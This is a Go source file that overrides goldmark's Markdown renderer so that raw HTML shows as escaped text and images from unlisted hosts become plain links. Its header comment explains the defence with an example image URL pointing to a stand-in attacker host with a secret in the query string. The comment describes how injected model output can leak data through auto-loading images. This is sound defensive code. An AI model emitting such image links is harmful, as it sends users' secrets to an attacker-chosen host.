package render

import (
	"bytes"
	"net/url"
	"path"
	"strings"

	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/renderer"
	"github.com/yuin/goldmark/renderer/html"
	"github.com/yuin/goldmark/util"
)

// What the Markdown renderer does differently from goldmark's HTML renderer, which it
// overrides for three kinds of node (a higher priority than goldmark's 1000 is a lower
// number):
//
//   - Raw HTML in the text, inline (`<details>`, `List<T>`) or as a block, is shown as
//     text: what the author wrote, escaped, never markup. goldmark's safe mode drops it
//     ("<!-- raw HTML omitted -->"), which loses words of prose about HTML or generics.
//   - An image loads only from a host the configuration allows (Config.ImageHosts); any
//     other is rendered as a link to it, with its alt text. Model output is written by
//     whoever controls the model's input, and an image that loads by itself is a request
//     to a host of their choosing (`![x](https://attacker/?secret=...)`): the known
//     exfiltration channel. A link leaves it to the reader.
type markdownOverrides struct {
	html.Config
	imageHosts []string
}

const overridePriority = 100

// RegisterFuncs implements renderer.NodeRenderer.
func (o *markdownOverrides) RegisterFuncs(reg renderer.NodeRendererFuncRegisterer) {
	reg.Register(ast.KindRawHTML, o.rawHTML)
	reg.Register(ast.KindHTMLBlock, o.htmlBlock)
	reg.Register(ast.KindImage, o.image)
}

func (o *markdownOverrides) rawHTML(w util.BufWriter, source []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
	if entering {
		segs := node.(*ast.RawHTML).Segments
		for i := 0; i < segs.Len(); i++ {
			seg := segs.At(i)
			w.Write(util.EscapeHTML(seg.Value(source)))
		}
	}
	return ast.WalkSkipChildren, nil
}

func (o *markdownOverrides) htmlBlock(w util.BufWriter, source []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
	if !entering {
		return ast.WalkContinue, nil
	}
	n := node.(*ast.HTMLBlock)
	var text bytes.Buffer
	for i := 0; i < n.Lines().Len(); i++ {
		line := n.Lines().At(i)
		text.Write(line.Value(source))
	}
	if n.HasClosure() {
		text.Write(n.ClosureLine.Value(source))
	}
	w.WriteString("<p>")
	w.Write(util.EscapeHTML(bytes.TrimRight(text.Bytes(), "\r\n")))
	w.WriteString("</p>\n")
	return ast.WalkSkipChildren, nil
}

func (o *markdownOverrides) image(w util.BufWriter, source []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
	n := node.(*ast.Image)
	dest := util.EscapeHTML(util.URLEscape(n.Destination, true))
	if html.IsDangerousURL(n.Destination) {
		dest = nil
	}
	if o.imageAllowed(string(n.Destination)) {
		if !entering {
			return ast.WalkContinue, nil
		}
		w.WriteString(`<img src="`)
		w.Write(dest)
		w.WriteString(`" alt="`)
		w.Write(util.EscapeHTML(plainText(n, source)))
		w.WriteByte('"')
		o.title(w, n)
		w.WriteString(">")
		return ast.WalkSkipChildren, nil
	}
	if !entering {
		w.WriteString("</a>")
		return ast.WalkContinue, nil
	}
	w.WriteString(`<a href="`)
	w.Write(dest)
	w.WriteByte('"')
	o.title(w, n)
	w.WriteString(">")
	if !n.HasChildren() {
		w.Write(util.EscapeHTML(n.Destination))
	}
	return ast.WalkContinue, nil
}

func (o *markdownOverrides) title(w util.BufWriter, n *ast.Image) {
	if n.Title != nil {
		w.WriteString(` title="`)
		o.Writer.Write(w, n.Title)
		w.WriteByte('"')
	}
}

// imageAllowed reports whether an image at dest may load by itself: an absolute
// http(s) URL whose host matches one of the allowed patterns ("*" is every host).
func (o *markdownOverrides) imageAllowed(dest string) bool {
	if len(o.imageHosts) == 0 {
		return false
	}
	u, err := url.Parse(dest)
	if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Hostname() == "" {
		return false
	}
	host := strings.ToLower(u.Hostname())
	for _, p := range o.imageHosts {
		if ok, err := path.Match(p, host); p == "*" || (err == nil && ok) {
			return true
		}
	}
	return false
}

// plainText is the text of n's descendants, for an alt attribute.
func plainText(n ast.Node, source []byte) []byte {
	var b bytes.Buffer
	ast.Walk(n, func(c ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch c := c.(type) {
		case *ast.Text:
			b.Write(c.Segment.Value(source))
			if c.SoftLineBreak() || c.HardLineBreak() {
				b.WriteByte(' ')
			}
		case *ast.String:
			b.Write(c.Value)
		}
		return ast.WalkContinue, nil
	})
	return b.Bytes()
}
